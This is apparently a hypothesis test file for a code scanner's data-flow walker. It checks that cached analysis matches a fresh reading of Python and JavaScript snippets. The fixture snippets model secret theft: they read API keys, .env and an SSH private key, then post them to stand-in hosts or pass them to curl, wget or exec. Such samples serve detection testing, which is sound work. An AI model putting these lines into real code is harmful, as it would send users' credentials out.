"""Laws of walks over code: what is remembered of a part is what reading it anew would give."""

from __future__ import annotations

import ast
from typing import TYPE_CHECKING, Any

from hypothesis import given, settings
from hypothesis import strategies as st

from scan import javascript
from scan.rules.flow import NOTHING, Value, line_starts
from scan.rules.python_acts import Reader as Python
from scan.rules.script_acts import Reader as Script
from scan.rules.walk import Walk

if TYPE_CHECKING:
    from collections.abc import Callable, Hashable

PYTHON = (
    "a = os.environ['ACME_API_KEY']",
    "b = open('.env').read()",
    "c = [a, b]",
    "a += b",
    "a, b = b, a",
    "c.append(b)",
    "b = f(a, c)",
    "f(open('/home/me/.ssh/id_rsa').read())",
    "requests.post('https://x.example', data=c)",
    "requests.get('https://x.example', params={'q': f(b)})",
    "open('out.txt', 'w').write(str(a))",
    "b = open('out.txt').read()",
    "d = [subprocess.run([x, a]) for x in ('curl', 'wget')]",
    "sys.path.insert(0, b)",
    "importlib.import_module('m')",
    "self.k = a",
    "b = self.k",
    "if a == 'x':\n    b = c",
    "for a in c:\n    requests.post('https://y.example', data=a)",
    "with open(b) as a:\n    c = a.read()",
    "def f(x, y=None):\n    x.z = y\n    return x.k or y",
)
SCRIPT = (
    "const a = process.env.ACME_API_KEY;",
    "let b = fs.readFileSync('.env');",
    "var c = [a, b];",
    "a += b;",
    "b = c[0];",
    "c.push(b);",
    "b = f(a, c);",
    "fetch('https://x.example', {method: 'POST', body: JSON.stringify(c)});",
    "axios.post('https://y.example', f(b)).then(r => { a = r; fs.writeFileSync('o.txt', a); });",
    "fs.writeFileSync('o.txt', a);",
    "b = fs.readFileSync('o.txt');",
    "this.k = a;",
    "b = this.k;",
    "if (a == 'x') { b = c; }",
    "for (const a of c) { child_process.exec(a); }",
    "function f(x, y) { x.z = y; return x.k || y; }",
    "{ const b = 'https://z.example'; fetch(b, {body: a}); }",
    "c.forEach(a => { b = a; f(b); });",
)
NAMED = Value(("k",))


class _Forgetful(Walk):
    def part(self, key: Hashable, read: Callable[[Any], Value], node: Any) -> Value:
        self.parts.pop(key, None)
        return super().part(key, read, node)


class _ForgetfulPython(_Forgetful, Python):
    pass


class _ForgetfulScript(_Forgetful, Script):
    pass


@given(st.lists(st.sampled_from(PYTHON), max_size=9))
@settings(max_examples=150, deadline=None)
def test_python_is_read_as_if_nothing_were_remembered(lines: list[str]) -> None:
    """Whatever order the statements have."""
    source = "import os, sys, requests, subprocess, importlib\n" + "\n".join(lines)
    starts = line_starts(source)

    assert Python(ast.parse(source), starts).read() == _ForgetfulPython(ast.parse(source), starts).read()


@given(st.lists(st.sampled_from(SCRIPT), max_size=9))
@settings(max_examples=150, deadline=None)
def test_javascript_is_read_as_if_nothing_were_remembered(lines: list[str]) -> None:
    """Whatever order the statements have."""
    tree = javascript.parse("import fs from 'fs';\n" + "\n".join(lines))

    assert Script(tree).read() == _ForgetfulScript(tree).read()


def test_a_part_is_read_again_where_an_answer_is_another() -> None:
    """And only then; what it did is done again in either case."""
    walk, read = Walk(), []

    def body(node: str) -> Value:
        read.append(node)
        value: Value | None = walk.recall("a")
        walk.store("p", frozenset({"secret:K"}))
        return value or NOTHING

    first = [walk.part(1, body, "x"), walk.part(1, body, "x")]
    walk.bind("b", NAMED)
    unconcerned = walk.part(1, body, "x")
    walk.bind("a", NAMED)
    changed = walk.part(1, body, "x")

    assert (first, unconcerned, changed) == ([NOTHING, NOTHING], NOTHING, NAMED)
    assert read == ["x", "x"]
    assert walk.stored == {"p": frozenset({"holds:secret:K"})}
